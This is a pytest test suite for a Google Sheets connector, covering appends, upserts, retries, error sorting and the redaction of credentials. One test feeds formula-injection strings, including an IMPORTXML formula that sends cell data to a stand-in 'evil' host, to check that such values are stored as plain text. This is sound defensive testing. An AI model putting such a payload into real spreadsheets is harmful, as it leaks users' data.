from __future__ import annotations

import asyncio
import json
import time
from collections.abc import AsyncIterator, Iterator, Mapping
from contextlib import asynccontextmanager
from datetime import timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from connectors.google_sheets.connector import GoogleSheets
from connectors.google_sheets.rows import cell, placed, runs
from relay.connector import Call, Context
from relay.errors import DeliveryError, HoldError, PermanentError, RetryableError, UnknownOutcomeError
from relay.model import Reply
from relay.testing import Answer, HttpConnectorContract, Recorded, RecordingServer, assert_no_secret
from tests.connectors.fake_google_account import EMAIL
from tests.connectors.fake_google_cells import Tab
from tests.connectors.fake_google_sheets import BOOK, FakeGoogle

CALL = Call("dlv_1", "dlv_1", timeout=timedelta(seconds=5))
HEADER = ["Name", "Email", "Rating"]
_token_url = ""


@pytest.fixture(scope="module", autouse=True)
def tokens() -> Iterator[None]:
    """A token endpoint for the contract's tests, whose servers answer what they are told to."""
    global _token_url
    with RecordingServer(default=FakeGoogle()) as server:
        _token_url = server.url
        yield


class TestContract(HttpConnectorContract):
    connector = GoogleSheets

    def config_for(self, url: str) -> Mapping[str, Any]:
        return settings_for(url, FakeGoogle.key_file(_token_url))

    async def test_a_2xx_is_a_delivery(self) -> None:
        """Only where it says that the rows were appended: a proxy's page, or another API, doesn't."""
        with RecordingServer() as server:
            server.answer(201, {"id": 7})
            error = await self._failure(server.url)
        assert isinstance(error, UnknownOutcomeError)
        assert error.status == 201

    async def test_every_attempt_sends_the_same_request(self) -> None:
        async with sheet(HEADER) as (google, made, server):
            for attempt in (1, 2):
                await append(made, Call("d", "k", attempt=attempt), row=["Ana"])
        first, second = (request for request in server.requests if request.path != "/token")
        assert first == second
        assert google.rows[1:] == [["Ana"], ["Ana"]]

    async def test_bad_credentials_hold_the_lane(self) -> None:
        """After a new token was refused too."""
        with RecordingServer(default=Answer(401)) as server:
            error = await self._failure(server.url)
        assert isinstance(error, HoldError)
        assert len(server.requests) == 2


class TestContractOfChanging(TestContract):
    """Its first request reads, so no answer to it is no unknown outcome."""

    idempotent = True

    def fields(self) -> tuple[str | None, Mapping[str, Any]]:
        return "upsert_row", {"key_column": "Email", "row": {"Email": "ana@example.com"}}

    async def test_a_2xx_is_a_delivery(self) -> None:
        with RecordingServer() as server:
            server.answer(200, "<html>Sign in</html>", headers={"Content-Type": "text/html"})
            error = await self._failure(server.url)
        assert isinstance(error, RetryableError)


def settings_for(url: str, key_file: str, **more: Any) -> dict[str, Any]:
    return {
        "connector": "google_sheets",
        "base_url": url,
        "allow_private": True,
        "spreadsheet": BOOK,
        "service_account": key_file,
        **more,
    }


@asynccontextmanager
async def sheet(*rows: list[Any], **more: Any) -> AsyncIterator[tuple[FakeGoogle, GoogleSheets, RecordingServer]]:
    google = FakeGoogle(*rows)
    with RecordingServer(default=google) as server:
        config = settings_for(server.url, FakeGoogle.key_file(server.url), **more)
        made = GoogleSheets(GoogleSheets.Config.model_validate(config), Context())
        try:
            yield google, made, server
        finally:
            await made.aclose()


async def do(made: GoogleSheets, action: str, call: Call = CALL, **fields: Any) -> Reply:
    return await made.send(action, made.outgoing(action, fields, call), call)


async def append(made: GoogleSheets, call: Call = CALL, **fields: Any) -> Reply:
    return await do(made, "append_row", call, **fields)


async def failed(made: GoogleSheets, action: str = "append_row", call: Call = CALL, **fields: Any) -> DeliveryError:
    with pytest.raises(DeliveryError) as caught:
        await do(made, action, call, **(fields or {"row": ["Ana"]}))
    return caught.value


def api(server: RecordingServer) -> list[Recorded]:
    return [request for request in server.requests if request.path != "/token"]


# What goes out


async def test_a_row_by_names_goes_under_its_columns() -> None:
    async with sheet(HEADER, ["Old", "", 1]) as (google, made, server):
        reply = await append(made, row={"Rating": 2, "Name": "Zoë"})
        await append(made, row={"Email": "b@c.d"})
    assert google.rows[2:] == [["Zoë", "", 2], ["", "b@c.d"]]
    assert reply.body == {"range": "'Chats'!A3:C3", "rows": 1, "fresh": True}
    read, post, _ = api(server)
    assert (read.method, read.target) == ("GET", f"/v4/spreadsheets/{BOOK}/values/1:1")
    assert post.target == (
        f"/v4/spreadsheets/{BOOK}/values/A1:append?valueInputOption=RAW&insertDataOption=INSERT_ROWS"
    )
    assert post.json() == {"values": [["Zoë", None, 2]]}
    assert google.grants == 1


async def test_a_list_goes_by_position_without_reading_anything() -> None:
    async with sheet() as (google, made, server):
        await append(made, row=["Ana", None, True, 1.5, {"a": [1]}, 2**60])
    assert google.rows == [["Ana", "", True, 1.5, '{"a":[1]}', str(2**60)]]
    assert len(api(server)) == 1


async def test_many_rows_are_one_call() -> None:
    async with sheet(HEADER) as (google, made, server):
        action = made.action_class("append_row")
        many = [{"sheet": "Chats", "row": {"Name": f"n{n}"}} for n in range(500)]
        await append(made, **action.merged(many))
        with pytest.raises(PermanentError, match="differ in `sheet`"):
            action.merged([*many, {"row": {"Name": "x"}}])
    assert [row[0] for row in google.rows[1:]] == [f"n{n}" for n in range(500)]
    assert len(api(server)) == 2


async def test_a_formula_stays_a_text_and_digits_stay_as_they_are() -> None:
    texts = ['=IMPORTXML("http://evil/?"&A1,"//a")', "+1+1", "-2", "@SUM(A1)", "\t=1", "007", "'quoted", "1/2", "a\nb"]
    async with sheet(["Key", "Value"]) as (google, made, _):
        await append(made, row=texts)
        await append(made, row={"Key": "=1+1", "=HYPERLINK(1)": "x"}, missing_columns="add")
        await do(made, "update_row", key_column="Key", row={"Key": "=1+1", "Value": "=1+1"})
    assert google.rows[0] == ["Key", "Value", "=HYPERLINK(1)"]
    assert google.rows[1] == texts
    assert google.rows[2] == ["=1+1", "=1+1", "x"]


async def test_what_lies_below_the_table_is_not_written_over() -> None:
    async with sheet(["Name"], ["Ana"], [], ["a note"]) as (google, made, _):
        await append(made, row={"Name": "Ben"})
    assert google.rows == [["Name"], ["Ana"], ["Ben"], [], ["a note"]]


async def test_a_tab_is_named_with_its_quotes() -> None:
    async with sheet(HEADER) as (google, made, _):
        title = "Ana's! tab/50% +1?#ü:append"
        google.tabs.append(Tab(title, [["Name"]]))
        await append(made, sheet=title, row={"Name": "x"})
        error = await failed(made, sheet="Nowhere", row={"Name": "x"})
    assert google.tabs[2].rows == [["Name"], ["x"]]
    assert isinstance(error, PermanentError)
    assert error.cause == "no such sheet"


@pytest.mark.parametrize(
    ("row", "why"),
    [
        (["x" * 50_001], "value 1 has 50001 characters"),
        ({"Name": "x" * 50_001}, "the column 'Name' has 50001 characters"),
        ([None, ""], "the row is empty"),
        ({}, "the row is empty"),
        ({" ": 1}, "no name"),
        ([float("nan")], "no number"),
        (["\ud800"], "half a character"),
        ([1] * 18_279, "18278 columns"),
    ],
)
def test_what_a_sheet_refuses_is_refused_before_it_is_sent(row: Any, why: str) -> None:
    config = settings_for("http://127.0.0.1:9", FakeGoogle.key_file("http://127.0.0.1:9"))
    made = GoogleSheets(GoogleSheets.Config.model_validate(config), Context())
    with pytest.raises(PermanentError, match=why) as caught:
        made.outgoing("append_row", {"row": row}, CALL)
    assert "xxx" not in str(caught.value)


def test_fields_that_do_not_go_together_are_refused() -> None:
    config = settings_for("http://127.0.0.1:9", FakeGoogle.key_file("http://127.0.0.1:9"))
    made = GoogleSheets(GoogleSheets.Config.model_validate(config), Context())
    for wrong in ({}, {"row": ["a"], "rows": [["b"]]}, {"rows": []}):
        with pytest.raises(PermanentError, match="give one `row`, or several as `rows`"):
            made.outgoing("append_row", wrong, CALL)
    with pytest.raises(PermanentError, match="no value for its key"):
        made.outgoing("upsert_row", {"key_column": "Email", "row": {"Name": "Ana"}}, CALL)


# Columns


async def test_a_missing_column_is_refused_added_or_ignored() -> None:
    async with sheet(["Name"]) as (google, made, _):
        google.tabs[1].columns = 2
        error = await failed(made, row={"Name": "Ana", "City": "Bath", "Age": 7})
        assert isinstance(error, PermanentError)
        assert "no column 'City', 'Age'; row 1 has Name" in str(error)
        await append(made, row={"Name": "Ana", "City": "Bath"}, missing_columns="ignore")
        error = await failed(made, row={"City": "Bath"}, missing_columns="ignore")
        assert error.cause == "empty row"
        await append(made, row={"Name": "Ben", "City": "Bath", "Age": 7}, missing_columns="add")
        await append(made, row={"Age": 8})
    assert google.rows == [["Name", "City", "Age"], ["Ana"], ["Ben", "Bath", 7], ["", "", 8]]


async def test_an_empty_sheet_gets_its_header_when_asked() -> None:
    async with sheet() as (google, made, _):
        error = await failed(made, row={"Name": "Ana"})
        assert "is empty" in str(error)
        await append(made, row={"Name": "Ana", "Email": "a@b"}, missing_columns="add")
    assert google.rows == [["Name", "Email"], ["Ana", "a@b"]]


async def test_the_header_is_read_again_when_it_does_not_fit_or_is_old() -> None:
    async with sheet(["Name"]) as (google, made, server):
        await append(made, row={"Name": "Ana"})
        google.rows[0][:] = ["Email", "Name"]
        await append(made, row={"Name": "Ben", "Email": "b@c"})
    assert google.rows[2] == ["b@c", "Ben"]
    assert [request.method for request in api(server)] == ["GET", "POST", "GET", "POST"]
    async with sheet(["Name"], header_for="0s") as (google, made, _):
        await append(made, row={"Name": "Ana"})
        google.rows[0][:] = ["Email", "Name"]
        await append(made, row={"Name": "Ben"})
    assert google.rows[2] == ["", "Ben"]


async def test_two_columns_of_one_name_are_refused() -> None:
    async with sheet(["Name", "Name"]) as (_, made, _):
        error = await failed(made, row={"Name": "Ana"})
    assert "2 columns named 'Name'" in str(error)


# Changing rows by a key


async def test_update_changes_only_the_cells_that_are_given() -> None:
    async with sheet([*HEADER, "Note"], ["Ana", "a@b", 1, "n"], ["Ben", "7", 2, "m"]) as (google, made, server):
        await do(made, "update_row", key_column="Email", row={"Email": 7, "Name": "Benny", "Note": "", "Rating": None})
    assert google.rows[1:] == [["Ana", "a@b", 1, "n"], ["Benny", "7", 2, ""]]
    sent = api(server)[-1]
    assert sent.path.endswith("/values:batchUpdate")
    assert sent.json() == {
        "valueInputOption": "RAW",
        "data": [{"range": "A3:A3", "values": [["Benny"]]}, {"range": "D3:D3", "values": [[""]]}],
    }


async def test_update_refuses_no_row_and_several() -> None:
    async with sheet(HEADER, ["Ana", "a@b"], ["Ann", "a@b"]) as (google, made, _):
        for key, cause in (("x@y", "no row has the key"), ("a@b", "several rows have the key")):
            error = await failed(made, "update_row", key_column="Email", row={"Email": key, "Name": "Z"})
            assert isinstance(error, PermanentError)
            assert error.cause == cause
            assert key not in str(error)
    assert google.rows[1:] == [["Ana", "a@b"], ["Ann", "a@b"]]


async def test_upsert_appends_once_and_then_changes() -> None:
    async with sheet(HEADER) as (google, made, _):
        first = await do(made, "upsert_row", key_column="Email", row={"Email": "a@b", "Name": "Ana"})
        again = await do(made, "upsert_row", key_column="Email", row={"Email": "a@b", "Rating": 5})
        same = await do(made, "upsert_row", key_column="Email", row={"Email": "a@b"})
    assert google.rows[1:] == [["Ana", "a@b", 5]]
    assert isinstance(first.body, dict)
    assert first.body["fresh"] is True
    assert (again.summary, again.body) == ("updated row 2", {"row": 2, "rows": 1, "fresh": False})
    assert "nothing in it was to be changed" in same.summary


async def test_a_key_in_the_header_is_no_row() -> None:
    async with sheet(HEADER) as (_, made, _):
        error = await failed(made, "update_row", key_column="Email", row={"Email": "Email", "Name": "x"})
    assert error.cause == "no row has the key"


async def test_columns_that_were_moved_meanwhile_are_found_again() -> None:
    async with sheet(HEADER, ["Ana", "a@b"]) as (google, made, _):
        await do(made, "update_row", key_column="Email", row={"Email": "a@b", "Name": "A"})
        google.rows[:] = [["Email", "Name"], ["a@b", "A"]]
        await do(made, "update_row", key_column="Email", row={"Email": "a@b", "Name": "B"})
    assert google.rows[1] == ["a@b", "B"]


# The worst moments


def breaking(google: FakeGoogle, ending: str, instead: Any, *, done: bool) -> Any:
    """Breaks off the first request whose path ends so, before or after it has been carried out."""
    left = [True]

    def answer(request: Recorded) -> Answer:
        if left and request.path.endswith(ending):
            left.pop()
            if done:
                google(request)
            return Answer(200, b"{}", instead=instead)
        return google(request)

    return answer


@pytest.mark.parametrize("instead", ["reset", "close", "garbage", "hang"])
@pytest.mark.parametrize("done", [False, True])
async def test_an_append_without_an_answer_is_unknown_and_with_an_id_column_made_once(instead: str, done: bool) -> None:
    quick = Call("dlv_1", "dlv_1", timeout=timedelta(seconds=0.3 if instead == "hang" else 5))
    async with sheet(["Name", "Id"]) as (google, made, server):
        server.default = breaking(google, ":append", instead, done=done)
        error = await failed(made, call=quick, row={"Name": "Ana"})
        assert isinstance(error, UnknownOutcomeError)
    async with sheet(["Name", "Id"]) as (google, made, server):
        server.default = breaking(google, ":append", instead, done=done)
        error = await failed(made, call=quick, row={"Name": "Ana"}, delivery_id_column="Id")
        assert isinstance(error, RetryableError)
        again = await append(made, Call("dlv_1", "dlv_1", attempt=2), row={"Name": "Ana"}, delivery_id_column="Id")
    assert google.rows[1:] == [["Ana", "dlv_1"]]
    assert isinstance(again.body, dict)
    assert again.body["fresh"] is not done


@pytest.mark.parametrize("done", [False, True])
async def test_a_batch_that_broke_off_is_appended_once(done: bool) -> None:
    rows = [{"Name": "Ana"}, {"Name": "Ben"}, {"Name": "Cy", "Id": "own"}]
    async with sheet(["Name", "Id"]) as (google, made, server):
        server.default = breaking(google, ":append", "reset", done=done)
        await failed(made, rows=rows, delivery_id_column="Id")
        await append(made, rows=rows, delivery_id_column="Id")
        await append(made, Call("e", "dlv_2"), row={"Name": "Cy", "Id": "own"}, delivery_id_column="Id")
    assert google.rows[1:] == [["Ana", "dlv_1/1"], ["Ben", "dlv_1/2"], ["Cy", "own"]]


async def test_rows_of_several_deliveries_are_found_again_however_they_are_gathered() -> None:
    """After a lost answer a batch may be sent in halves: the half must not append what the whole did."""
    rows = [{"Name": "Ana"}, {"Name": "Ben"}, {"Name": "Cy"}]
    async with sheet(["Name", "Id"]) as (google, made, _):
        await append(made, Call("b_1", "b_1", rows=("dlv_1", "dlv_2", "dlv_3")), rows=rows, delivery_id_column="Id")
        await append(made, Call("b_2", "b_2", rows=("dlv_2", "dlv_3")), rows=rows[1:], delivery_id_column="Id")
        await append(made, Call("dlv_1", "dlv_1"), row=rows[0], delivery_id_column="Id")
    assert google.rows[1:] == [["Ana", "dlv_1"], ["Ben", "dlv_2"], ["Cy", "dlv_3"]]


async def test_an_id_column_works_with_rows_by_position_and_is_added_when_asked() -> None:
    async with sheet(["Name"]) as (google, made, _):
        for _ in range(2):
            await append(made, row=["Ana"], delivery_id_column="Id", missing_columns="add")
        error = await failed(made, row=["Ana"], delivery_id_column="Other", missing_columns="ignore")
    assert google.rows == [["Name", "Id"], ["Ana", "dlv_1"]]
    assert error.cause == "column missing"


@pytest.mark.parametrize("done", [False, True])
@pytest.mark.parametrize("ending", [":append", ":batchUpdate"])
async def test_an_upsert_that_broke_off_is_retried_and_makes_one_row(ending: str, done: bool) -> None:
    async with sheet(HEADER, ["Ana", "a@b", 1]) as (google, made, server):
        server.default = breaking(google, ending, "reset", done=done)
        key = "new@b" if ending == ":append" else "a@b"
        row = {"Email": key, "Name": "Zoë"}
        error = await failed(made, "upsert_row", key_column="Email", row=row)
        assert isinstance(error, RetryableError)
        await do(made, "upsert_row", key_column="Email", row=row)
    assert [line[:2] for line in google.rows if line[1] == key] == [["Zoë", key]]


async def test_an_answer_that_breaks_off_is_a_delivery_where_rows_were_appended() -> None:
    async with sheet(HEADER) as (_, made, server):
        server.answer(200, {"access_token": "t", "expires_in": 3599})
        server.answer(200, b'{"updates":{"updatedRows":1}}', instead="break off")
        reply = await append(made, row=["Ana"])
    assert reply.summary == "appended 1 row (the reply broke off)"


async def test_a_header_that_breaks_off_is_retried() -> None:
    async with sheet(HEADER) as (_, made, server):
        server.answer(200, {"access_token": "t", "expires_in": 3599})
        server.answer(200, b'{"values":[["Name"]]}', instead="break off")
        error = await failed(made, row={"Name": "Ana"})
    assert isinstance(error, RetryableError)


async def test_attempts_go_one_after_another_and_a_cancelled_one_writes_nothing_more() -> None:
    async with sheet(HEADER) as (google, made, server):
        await append(made, row=["first"])
        server.answer(200, {"values": [HEADER]}, delay_seconds=0.3)
        task = asyncio.create_task(append(made, row={"Name": "cancelled"}))
        await asyncio.sleep(0.1)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        await asyncio.gather(*(append(made, row=[f"n{n}"]) for n in range(5)))
    assert [row[0] for row in google.rows[1:]] == ["first", *(f"n{n}" for n in range(5))]


# What an answer means


def error_body(code: int, status: str, message: str) -> dict[str, Any]:
    return {"error": {"code": code, "message": message, "status": status}}


@pytest.mark.parametrize(
    ("answer", "kind", "cause", "words"),
    [
        (Answer(400, error_body(400, "INVALID_ARGUMENT", "Odd\nthing")), PermanentError, "http 400", "Odd thing"),
        (Answer(404, error_body(404, "NOT_FOUND", "x")), PermanentError, "spreadsheet not found", "take its id"),
        (Answer(403, "<html>"), PermanentError, "http 403", "403 Forbidden"),
        (Answer(502, "<html>Bad gateway"), RetryableError, "http 502", "502 Bad Gateway"),
        (Answer(500, error_body(500, "INTERNAL", "x")), RetryableError, "http 500", "500"),
        (Answer(302, headers={"Location": "https://a.b/c"}), PermanentError, "http 302", "points to a.b"),
    ],
)
async def test_errors_are_sorted_by_fate(answer: Answer, kind: type[DeliveryError], cause: str, words: str) -> None:
    async with sheet(HEADER) as (_, made, server):
        await append(made, row=["Ana"])
        server.answer(answer.status, answer.body, headers=answer.headers)
        error = await failed(made)
    assert type(error) is kind
    assert (error.status, error.cause) == (answer.status, cause)
    assert words in str(error)
    assert "\n" not in str(error)


async def test_a_sheet_that_is_not_shared_holds_and_names_the_address() -> None:
    async with sheet(HEADER) as (google, made, _):
        google.shared.clear()
        error = await failed(made)
        assert isinstance(error, HoldError)
        assert f"share the sheet with {EMAIL}" in str(error)
        google.shared.add(EMAIL)
        google.disabled = True
        error = await failed(made)
        assert isinstance(error, HoldError)
        assert "switch on the Google Sheets API in the Google Cloud project my-project" in str(error)


async def test_a_used_up_quota_waits_for_the_next_minute() -> None:
    async with sheet(HEADER) as (google, made, server):
        google.quota = 1
        await append(made, row=["Ana"])
        error = await failed(made)
        assert isinstance(error, RetryableError)
        assert (error.retry_after, error.cause) == (timedelta(seconds=60), "quota of google sheets")
        server.answer(429, {}, headers={"Retry-After": "3"})
        error = await failed(made)
    assert isinstance(error, RetryableError)
    assert error.retry_after == timedelta(seconds=3)


async def test_a_full_book_and_a_protected_range_say_so() -> None:
    async with sheet(HEADER, ["Ana", "a@b"]) as (google, made, _):
        google.limit = 1
        error = await failed(made)
        assert isinstance(error, PermanentError)
        assert (error.status, error.cause) == (400, "spreadsheet is full")
        google.protected.add("Chats")
        error = await failed(made, "update_row", key_column="Email", row={"Email": "a@b", "Name": "x"})
    assert isinstance(error, PermanentError)
    assert error.cause == "range is protected"


# Credentials


async def test_a_token_is_kept_and_renewed_once_when_it_is_refused() -> None:
    async with sheet(HEADER) as (google, made, _):
        await append(made, row=["a"])
        await append(made, row=["b"])
        assert google.grants == 1
        google.tokens.clear()
        await append(made, row=["c"])
    assert google.grants == 2
    assert [row[0] for row in google.rows[1:]] == ["a", "b", "c"]


@pytest.mark.parametrize(
    ("status", "body", "kind"),
    [
        (400, {"error": "invalid_grant", "error_description": "Invalid JWT Signature."}, HoldError),
        (401, {"error": "unauthorized_client"}, HoldError),
        (500, {"error": "internal_failure"}, RetryableError),
        (503, "<html>", RetryableError),
        (200, {"id": 1}, RetryableError),
    ],
)
async def test_no_token_is_sorted_too(status: int, body: Any, kind: type[DeliveryError]) -> None:
    async with sheet(HEADER) as (google, made, server):
        server.answer(status, body)
        started = time.monotonic()
        error = await failed(made)
        assert type(error) is kind
        assert time.monotonic() - started < 1, "google-auth's own retries sleep"
        if status == 400:
            assert f"no token for {EMAIL}: Invalid JWT Signature." in str(error)
        await append(made, row=["Ana"])
    assert google.rows[1:] == [["Ana"]]


async def test_a_wrong_clock_and_a_foreign_key_hold() -> None:
    async with sheet(HEADER) as (google, made, _):
        google.clock = lambda: time.time() + 3700
        error = await failed(made)
    assert isinstance(error, HoldError)
    assert "clock" in str(error)
    broken = json.loads(FakeGoogle.key_file("http://127.0.0.1:9"))
    broken["private_key"] = "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"
    async with sheet(HEADER, service_account=json.dumps(broken)) as (_, made, _):
        error = await failed(made)
    assert isinstance(error, HoldError)
    assert error.cause == "private key unreadable"


async def test_a_hanging_token_endpoint_is_retried_because_nothing_was_written() -> None:
    async with sheet(HEADER) as (_, made, server):
        server.answer(instead="hang")
        error = await failed(made, call=Call("d", "k", timeout=timedelta(seconds=0.3)), row=["Ana"])
    assert isinstance(error, RetryableError)


async def test_neither_key_nor_token_is_shown() -> None:
    async with sheet(HEADER) as (_, made, server):
        reply = await append(made, row=["Ana"])
        info = json.loads(made.config.service_account.get_secret_value())
        line = info["private_key"].splitlines()[3]
        token = server.requests[-1].headers["authorization"].removeprefix("Bearer ")
        server.answer(400, {"error": {"message": f"{token} {line}"}, "all": [token, info["private_key"]]})
        error = await failed(made)
        text = json.dumps([str(error), error.received, reply.received, repr(made.config)])
        assert_no_secret(made.config, text)
        assert token not in text
        assert line not in text


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("secrets/google.json", "this is a path"),
        ("s3cret", "it isn't JSON"),
        ("[1]", "a JSON object"),
        ('{"installed": {"client_id": "s3cret"}}', "an OAuth client's key"),
        ('{"type": "authorized_user", "refresh_token": "s3cret"}', "another kind of key"),
        ('{"type": "service_account", "private_key": "s3cret"}', "no client_email and no token_uri"),
        (
            '{"type": "service_account", "client_email": "a", "token_uri": "b", "private_key": "s3cret"}',
            "no PEM key",
        ),
    ],
)
def test_a_key_file_that_is_none_is_refused_in_words(text: str, why: str) -> None:
    with pytest.raises(ValidationError, match=why) as caught:
        GoogleSheets.Config.model_validate(settings_for("http://127.0.0.1:9", text))
    assert "s3cret" not in str(caught.value)


def test_a_key_with_real_line_breaks_from_an_environment_variable_is_read() -> None:
    text = FakeGoogle.key_file("http://127.0.0.1:9").replace("\\n", "\n")
    GoogleSheets.Config.model_validate(settings_for("http://127.0.0.1:9", text))


def test_a_spreadsheet_is_an_id_or_an_address() -> None:
    url, key = "http://127.0.0.1:9", FakeGoogle.key_file("http://127.0.0.1:9")
    for written in (BOOK, f"https://docs.google.com/spreadsheets/d/{BOOK}/edit#gid=0"):
        config = GoogleSheets.Config.model_validate(settings_for(url, key, spreadsheet=written))
        assert config.spreadsheet == BOOK
    for wrong in ("../x", "a b", "https://example.com/x"):
        with pytest.raises(ValidationError, match="address"):
            GoogleSheets.Config.model_validate(settings_for(url, key, spreadsheet=wrong))


async def test_a_private_address_holds_unless_it_is_allowed() -> None:
    async with sheet(HEADER, allow_private=False) as (_, made, server):
        error = await failed(made)
    assert isinstance(error, HoldError)
    assert server.requests == []


# Properties


@given(st.dictionaries(st.sampled_from("abcdefgh"), st.one_of(st.none(), st.text(max_size=3), st.integers())))
@settings(max_examples=60)
def test_a_value_is_under_its_own_column_and_nowhere_else(row: dict[str, Any]) -> None:
    header = list("hcxabfd")
    made = placed(dict(row), header)
    assert {name: made[i] for i, name in enumerate(header) if i < len(made) and made[i] is not None} == {
        name: value for name, value in row.items() if name in header and value is not None
    }
    pieces = {start + n: value for start, values in runs(row, header) for n, value in enumerate(values)}
    assert pieces == {index: value for index, value in enumerate(made) if value is not None}


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False), st.text(max_size=20), st.booleans()))
@settings(max_examples=60)
def test_a_cell_holds_what_was_given_or_its_text(value: Any) -> None:
    made = cell(value, "x")
    assert made == value or made == str(value)
